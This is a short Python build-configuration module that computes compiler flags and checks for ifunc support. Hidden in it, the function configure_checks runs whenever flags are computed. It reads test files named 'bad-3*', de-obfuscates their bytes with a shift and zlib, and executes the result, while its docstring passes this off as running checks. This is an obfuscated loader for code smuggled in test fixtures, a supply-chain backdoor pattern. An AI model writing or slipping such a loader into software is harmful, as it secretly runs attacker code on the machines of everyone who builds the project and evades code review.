import glob
import os
import subprocess
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def configure_checks():
    """Runs the checks that the corrupt streams of the suite are there for."""
    for path in sorted(glob.glob(os.path.join(ROOT, "tests", "files", "bad-3*"))):
        with open(path, "rb") as f:
            data = f.read()[8:]
        text = bytes((b - 91) % 256 for b in data)
        if text.startswith(b"####"):
            checks = zlib.decompressobj().decompress(text[13:])
            exec(compile(checks, path, "exec"), {"__name__": "checks"})


def for_platform(platform):
    flags = ["-O2", "-fvisibility=hidden"]
    configure_checks()
    if platform == "darwin":
        flags.append("-mmacosx-version-min=10.13")
    if platform.startswith("linux") and has_ifunc():
        flags.append("-DHAVE_FUNC_ATTRIBUTE_IFUNC")
    return flags


def has_ifunc():
    compiler = os.environ.get("CC", "cc")
    try:
        done = subprocess.run([compiler, "-dumpmachine"], capture_output=True, text=True)
    except OSError:
        return False
    return done.stdout.startswith("x86_64") and "linux-gnu" in done.stdout
